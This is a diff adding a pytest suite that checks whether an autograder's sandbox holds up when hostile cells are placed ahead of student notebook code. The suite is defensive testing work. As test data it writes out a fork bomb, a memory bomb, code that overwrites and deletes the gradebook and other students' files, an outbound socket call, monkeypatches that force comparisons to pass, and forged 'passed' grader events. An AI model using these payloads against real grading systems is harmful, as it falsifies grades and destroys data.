@@ -1,0 +1,110 @@
+"""One submission per threat: each scores what its honest part earns and leaves the course untouched.
+
+The attack is an extra code cell put in front of a sample's own cells: with carol's (wrong) answers
+it must not gain a point; with alice's (right) answers it must not cost the rest of the notebook.
+"""
+import hashlib
+import json
+from pathlib import Path
+
+import pytest
+
+from autograder.judging import grade_cells
+from autograder.notebook_io import code_cells, read_submission
+from autograder.sandbox import Limits, Sandbox
+
+COURSE = Path(__file__).resolve().parents[2] / "course"
+LIMITS = Limits(cell_timeout=8, check_timeout=8, total_timeout=120)
+
+ATTACKS = {
+    "input_transformers": "get_ipython().input_transformers_cleanup.append(lambda l: ['pass\\n'])",
+    "eq_always_true": (
+        "import numpy as np\n"
+        "class Liar(np.ndarray):\n"
+        "    def __eq__(self, other): return True\n"
+        "    __array_priority__ = 1000\n"
+        "def add_vjp(g, a, b): return (np.zeros(1).view(Liar), np.zeros(1).view(Liar))\n"),
+    "gradebook_and_source": (
+        "import os\n"
+        "for p in ['../../../gradebook.db', '{course}/gradebook.db', '{course}/source/vjp_rules/vjp_rules.ipynb',\n"
+        "          '{course}/submitted/alice/vjp_rules/vjp_rules.ipynb']:\n"
+        "    try:\n"
+        "        open(p, 'a').write('pwned')\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    try:\n"
+        "        os.remove(p)\n"
+        "    except OSError:\n"
+        "        pass\n"),
+    "os_exit": "import os\nos._exit(0)",
+    "sigint_loop": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
+    "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
+    "memory_bomb": "hog = []\nwhile True:\n    hog.append(bytearray(1 << 26))",
+    "network": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=3).send(b'scores')",
+    "stderr": "import sys\nfor _ in range(1000):\n    print('warning: deprecated', file=sys.stderr)",
+    "monkeypatch": (
+        "import numpy as np, builtins\n"
+        "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)\n"
+        "builtins.isinstance = lambda *a: True\n"),
+    "fake_passed_output": (
+        "import json, os\n"
+        "for name in ['unbroadcast', 'add_vjp']:\n"
+        "    os.write(3, (json.dumps({{'event': 'check', 'name': name, 'status': 'ok', 'data': None}}) + '\\n').encode())\n"
+        "print('19/19 points, all passed')\n"),
+    "import_torch": "import torch\nadd_vjp = lambda g, a, b: (g, g)",
+}
+# Attacks that break the interpreter for whatever runs after them in the same cell sequence.
+DISRUPTIVE = ("os_exit", "sigint_loop", "fork_bomb", "memory_bomb", "monkeypatch")
+
+
+@pytest.fixture(scope="module")
+def sandbox():
+    box = Sandbox(LIMITS)
+    yield box
+    box.close()
+
+
+@pytest.fixture()
+def course(tmp_path):
+    root = tmp_path / "course"
+    (root / "source" / "vjp_rules").mkdir(parents=True)
+    (root / "submitted" / "alice" / "vjp_rules").mkdir(parents=True)
+    (root / "gradebook.db").write_text("the gradebook")
+    (root / "source" / "vjp_rules" / "vjp_rules.ipynb").write_text("the source")
+    (root / "submitted" / "alice" / "vjp_rules" / "vjp_rules.ipynb").write_text("alice's work")
+    return root
+
+
+def _fingerprint(root: Path) -> dict:
+    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def _score(sandbox, sample, attack, course):
+    nb = read_submission(COURSE / "samples" / "vjp_rules" / sample / "vjp_rules.ipynb")
+    cells = code_cells(nb)
+    attack_cell = ATTACKS[attack].format(course=course)
+    # After the given engine's cells, before the student's answers, as a student would put it.
+    results, _ = grade_cells(sandbox, "vjp_rules", [attack_cell] + cells, seed=7)
+    return sum(r.points for r in results), results
+
+
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+def test_attack_gains_nothing(sandbox, course, attack):
+    before = _fingerprint(course)
+    points, results = _score(sandbox, "carol", attack, course)
+    assert points == 0, [r.feedback for r in results if r.points]
+    assert _fingerprint(course) == before
+
+
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+def test_attack_costs_the_honest_part_nothing(sandbox, course, attack):
+    before = _fingerprint(course)
+    points, results = _score(sandbox, "alice", attack, course)
+    expected = json.loads((COURSE / "samples" / "expected_scores.json").read_text())
+    assert points == expected["vjp_rules"]["alice"]["points"], [r.feedback for r in results if not r.points]
+    assert _fingerprint(course) == before
+
+
+def test_sandbox_is_isolated(sandbox):
+    assert sandbox.isolated, "bubblewrap is missing: the grader runs with rlimits only"
